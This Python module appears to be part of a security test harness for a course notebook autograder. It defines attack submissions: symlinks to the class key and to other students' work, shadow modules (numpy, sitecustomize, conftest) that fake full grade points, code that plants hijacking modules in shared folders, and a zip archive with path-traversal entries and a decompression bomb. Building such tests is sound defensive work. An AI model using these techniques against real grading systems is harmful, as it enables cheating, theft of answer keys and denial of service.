"""Attacks by what lies in the submission's folder, or in an archive of submissions."""

from __future__ import annotations

import os
import stat
import zipfile
from pathlib import Path
from typing import Any

from attacks import arena
from attacks.attack import Attack, filled

MB = 1_000_000
READS_BESIDE = """
import os

for name in sorted(os.listdir(".")):
    try:
        text = open(name, encoding="latin-1").read(2_000_000)
    except OSError:
        continue
    if "canary-sol" in text or len(text.strip()) == 64:
        tell("beside the notebook:", name, text[-200:])

def rms(x):
    return 0.0
"""

EVIL_MODULE = """
import sys
open("/tmp/left-@TOKEN@-module", "w").write("ran")
print("GOT" + "-IN: runs as", __name__, "in", sys.argv[0])

def __getattr__(name):
    class Any:
        def __getattr__(self, name): return Any()
        def __call__(self, *a, **k): return Any()
        def points(self): return 6.0
        def credit(self, *a, **k): pass
        def __iter__(self): return iter(())
    return Any()
"""


def links(folder: Path, scene: Any) -> None:
    """Links beside the notebook, to files and to a folder of the instructor."""
    for name, target in {
        "data.txt": scene.course.notebook("source", arena.NAME), "key.txt": scene.course.key,
        "relative.txt": "../../../secret.key",
    }.items():  # fmt: skip
        os.symlink(target, folder / name)


def links_to_folders(folder: Path, scene: Any) -> None:
    """Links to the class itself and to nowhere."""
    for name, target in {"all": scene.course.root, "loop": "loop", "gone": "/nowhere"}.items():
        os.symlink(target, folder / name)


def stamp(folder: Path, scene: Any) -> None:
    """The time of submission is a link to the class key."""
    os.symlink(scene.course.key, folder / "timestamp.txt")


def link_itself(folder: Path, scene: Any) -> None:
    """The notebook itself is a link to another student's."""
    path = folder / f"{arena.NAME}.ipynb"
    path.unlink()
    os.symlink(scene.course.notebook("submitted", arena.NAME, "zoe"), path)


def link_folder(folder: Path, scene: Any) -> None:
    """The folder is a link to another student's."""
    for path in folder.iterdir():
        path.unlink()
    folder.rmdir()
    os.symlink(scene.course.notebook("submitted", arena.NAME, "zoe").parent, folder)


def pipe(folder: Path, scene: Any) -> None:
    """The notebook is a named pipe that nobody writes to."""
    path = folder / f"{arena.NAME}.ipynb"
    path.unlink()
    os.mkfifo(path)


def modules(folder: Path, scene: Any) -> None:
    """Modules of the student's beside the notebook, under the names that the tests import."""
    text = filled(EVIL_MODULE, scene.places)
    for name in (
        "numpy",
        "sitecustomize",
        "usercustomize",
        "json",
        "socket",
        "struct",
        "physiodl",
        "autograder",
        "conftest",
    ):
        (folder / f"{name}.py").write_text(text)
    (folder / ".ipython" / "profile_default" / "startup").mkdir(parents=True)
    (folder / ".ipython" / "profile_default" / "startup" / "00.py").write_text(text)
    (folder / "ipython_config.py").write_text("c.InteractiveShellApp.exec_lines = ['abs = lambda x: 0']\n")
    (folder / "nbgrader_config.py").write_text("c = get_config()\nc.ClearSolutions.code_stub = {}\n" + text)


WRITES_MODULES = """
import os

text = '''
import os
try:
    open("@CLASS@/left-by-module", "w").write("x")
    open("/tmp/left-@TOKEN@-module", "w").write("x")
except OSError:
    pass
'''
for folder in (".", os.path.expanduser("~"), "@HOME@", "@TMP@", "@CLASS@", "/course", "/course/physiodl"):
    for name in ("sitecustomize", "usercustomize", "numpy", "physiodl", "arena"):
        try:
            open(f"{folder}/{name}.py", "x").write(text)
        except OSError:
            pass

def rms(x):
    return 0.0
"""

# --- archives ---


def evil_archive(path: Path, scene: Any, *, slips: bool = True, bomb: bool = True) -> None:
    """A download with an honest notebook, files that lead out of the folder, links, and a bomb."""
    notebook = scene.course.notebook("submitted", arena.NAME, "zoe").read_bytes()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"slip_1_{arena.NAME}.ipynb", notebook)
        for name in (
            "../../../../left-by-slip.txt", f"/tmp/left-{scene.token}-slip", "..\\..\\left-by-slip.txt",
            "a/../../left-by-slip.txt",
            "../secret.key", "../gradebook.db", "C:/left-by-slip.txt", "../../source/08_arena/08_arena.ipynb",
        ):  # fmt: skip
            if slips:
                archive.writestr(name, b"out")
        for name, target in ((f"link_2_{arena.NAME}.ipynb", scene.course.key), ("under", scene.course.root)):
            link = zipfile.ZipInfo(name)
            link.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(link, str(target))
        if slips:
            archive.writestr("under/left-by-slip.txt", b"through a link")
        if bomb:
            with archive.open(f"bomb_3_{arena.NAME}.ipynb", "w", force_zip64=True) as file:
                for _ in range(400):
                    file.write(bytes(MB))


def harm_of_archive(scene: Any, run: Any) -> list[tuple[str, str]]:
    """What `evil_archive` did when it was taken in; that it was unpacked below downloaded/ or submitted/ is no harm."""
    found = [("batch", "it had to be killed")] if run.code is None else []
    if "Traceback" in run.text:
        found.append(("batch", f"it ended with {run.text.strip().splitlines()[-1][:80]}"))
    apart = ("new: class/downloaded/", "new: class/submitted/")
    found += [("files", what) for what in scene.changed() if not what.startswith(apart) or "left-by" in what]
    found += [("machine", f"left behind: {name}") for name in scene.left_behind()]
    found += [("leak", f"{name} in what was printed") for name in scene.leaks([run.text])]
    for path in scene.course.root.rglob("*"):
        if path.is_file() and path.parts[len(scene.course.root.parts)] in ("submitted", "downloaded"):
            names = scene.leaks([path.read_bytes()[:MB].decode("latin-1")])
            found += [("leak", f"{name} in {path.name}") for name in names if name != "neighbour"]  # it is zoe's own
    size = sum(p.stat().st_size for p in scene.course.root.rglob("*") if p.is_file() and not p.is_symlink())
    if size > 100 * MB:
        found.append(("limits", f"{size / MB:.0f} MB came out of an archive of 1 MB"))
    return found


ATTACKS = [
    Attack(
        "links_beside",
        17,
        "Links beside the notebook lead to solutions and to the class key.",
        {"rms": READS_BESIDE},
        beside=links,
    ),
    Attack(
        "links_to_folders",
        17,
        "Links to the class's folder, to themselves and to nothing.",
        beside=links_to_folders,
        danger="it could fill the disk",
    ),
    Attack("link_for_time", 17, "The time of submission is a link to the class key.", beside=stamp),
    Attack(
        "link_for_notebook",
        17,
        "The notebook is a link to another student's.",
        beside=link_itself,
        most=dict.fromkeys(arena.POSSIBLE, 0.0),
    ),
    Attack(
        "link_for_folder",
        17,
        "The folder is a link to another student's.",
        beside=link_folder,
        most=dict.fromkeys(arena.POSSIBLE, 0.0),
    ),
    Attack(
        "modules_beside",
        None,
        "Own modules named numpy, physiodl and sitecustomize lie beside the notebook.",
        {"predict": "def predict(signals):\n    return np.zeros(len(signals))"},
        beside=modules,
    ),
    Attack("writes_modules", None, "Writes modules where others may import them.", {"rms": WRITES_MODULES}),
    Attack(
        "pipe_for_notebook", None, "The notebook is a named pipe.", beside=pipe, most=dict.fromkeys(arena.POSSIBLE, 0.0)
    ),
]
